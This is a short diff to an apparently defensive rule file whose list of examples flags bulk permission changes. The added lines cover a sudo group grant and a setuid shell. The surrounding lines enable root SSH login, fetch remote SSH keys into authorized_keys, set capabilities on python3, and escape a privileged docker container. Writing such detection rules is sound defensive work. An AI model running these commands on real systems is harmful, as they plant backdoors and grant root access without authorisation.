@@ -118,6 +118,8 @@ export const bulkPermissionChange: Rule = {
     "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
     'curl -s https://example.org/keys >> /home/deploy/.ssh/authorized_keys',
     'usermod -aG sudo bob',
+    'usermod --append --groups sudo -- bob',
+    'chmod 4755 /usr/local/bin/sh2',
     'setcap cap_setuid+ep /usr/bin/python3',
     'docker run --privileged -v /:/host alpine chroot /host',
   ],
